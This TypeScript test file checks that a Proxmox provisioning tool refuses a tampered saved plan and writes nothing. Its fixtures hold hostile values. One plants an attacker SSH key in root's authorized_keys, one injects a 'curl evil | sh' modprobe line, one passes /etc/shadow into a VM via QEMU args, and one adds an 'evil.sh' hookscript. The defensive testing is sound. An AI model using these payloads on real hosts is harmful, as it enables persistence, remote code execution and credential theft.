/**
 * A saved plan is reviewed intent, never code (issue 14, item 4): `apply` with
 * a plan plans again from fresh facts and the inventory and goes on only when
 * the result equals the file. A step added to the file (a write of
 * /root/.ssh/authorized_keys), an altered step, and VM keys `args` and
 * `hookscript` (both run code on a real PVE host) are each refused with the
 * difference, nothing is written or sent; the untouched plan still applies.
 * Checked through the library (`apply(inv, { plan })`) and the CLI.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apply, plan, type Plan } from '../../src/index.js';
import { expectConverges, snapshot, startSim, VFIO_NODE, type Sim } from './harness.js';
import { runCli } from './cli.js';

const VM_CONFIG = { name: 'vm401', ostype: 'l26', memory: '4096', cores: '2', scsi0: 'local-lvm:vm-401-disk-0,size=16G' };

describe('a saved plan is intent, never code', () => {
  let sim: Sim;
  let saved: Plan;
  const clone = (): Plan => JSON.parse(JSON.stringify(saved)) as Plan;
  const vmWrites = () => sim.requests.filter((r) => r.method !== 'GET' && r.path.includes('/qemu/401/config')).length;
  const nodeOf = (p: Plan) => p.clusters[0]!.nodes[0]! as unknown as { steps: unknown[] };
  const vmOf = (p: Plan) => p.clusters[0]!.vms[0]! as unknown as { set: Record<string, string> };

  beforeAll(async () => {
    sim = await startSim({
      clusters: [{
        name: 'c', standalone: true,
        nodes: [VFIO_NODE('n1')],
        vms: [{ vmid: 401, node: 'n1', status: 'stopped', config: VM_CONFIG, declare: { hostpci: [{ host: '0000:01:00', pcie: true }] } }],
      }],
    });
    saved = await plan(sim.inventory, sim.opts());
    // The test is only meaningful when the plan has host steps and a VM change.
    expect(nodeOf(saved).steps.length).toBeGreaterThan(0);
    expect(Object.keys(vmOf(saved).set).length).toBeGreaterThan(0);
  });
  afterAll(() => sim?.close());

  const refusedWith = async (p: Plan, pattern: RegExp) => {
    const before = snapshot(sim.fleet, '/');
    const writes = vmWrites();
    await expect(apply(sim.inventory, sim.opts({ plan: p }))).rejects.toMatchObject({ code: 'E_PLAN_DIFFERS', message: expect.stringMatching(pattern) });
    expect(snapshot(sim.fleet, '/')).toEqual(before);
    expect(vmWrites()).toBe(writes);
  };

  it('refuses a plan with an added step (a write of /root/.ssh/authorized_keys), writing nothing', async () => {
    const p = clone();
    nodeOf(p).steps.unshift({ kind: 'write-file', path: '/root/.ssh/authorized_keys', before: null, after: 'ssh-ed25519 AAAA attacker\n', mode: '0600', uid: 0, gid: 0, reason: 'x' });
    await refusedWith(p, /node n1: the file has "write \/root\/\.ssh\/authorized_keys", the planner makes no such step/);
    expect(sim.fleet.host('n1').state.vfs.exists('/root/.ssh/authorized_keys')).toBe(false);
  });

  it('refuses a plan with an altered step, showing the line that differs', async () => {
    const p = clone();
    const step = nodeOf(p).steps.find((s) => (s as { kind: string }).kind === 'write-file') as { path: string; after: string };
    step.after = step.after.replace(/\n/, '\ninstall vfio-pci /bin/sh -c "curl evil | sh"\n');
    await refusedWith(p, new RegExp(`"write ${step.path.replace(/[.]/g, '\\.')}" differs in after \\(line 2: the file has .*install vfio-pci`));
  });

  it('refuses VM keys args and hookscript added to a plan, sending nothing', async () => {
    const p = clone();
    vmOf(p).set.args = '-fw_cfg name=opt/x,file=/etc/shadow';
    vmOf(p).set.hookscript = 'local:snippets/evil.sh';
    await refusedWith(p, /VM 401: the file sets args=-fw_cfg .*the planner sends no args; VM 401: the file sets hookscript=local:snippets\/evil\.sh, the planner sends no hookscript/);
  });

  it('the CLI refuses a tampered plan file with the difference and exit 1', async () => {
    const p = clone();
    vmOf(p).set.hookscript = 'local:snippets/evil.sh';
    const file = join(sim.dir, 'tampered.json');
    writeFileSync(file, JSON.stringify(p));
    const r = await runCli(['apply', '--inventory', sim.fleet.inventoryPath, '--plan', file, '--yes'], { home: sim.dir });
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/the saved plan differs from what the planner makes now.*VM 401: the file sets hookscript=local:snippets\/evil\.sh/);
    expect(vmWrites()).toBe(0);
  });

  it('the untouched plan still applies, and the result converges', async () => {
    const r = await apply(sim.inventory, sim.opts({ plan: clone() }));
    expect(r.ok, JSON.stringify(r.nodes)).toBe(true);
    expect(vmWrites()).toBeGreaterThan(0);
    await expectConverges(sim);
  });
});
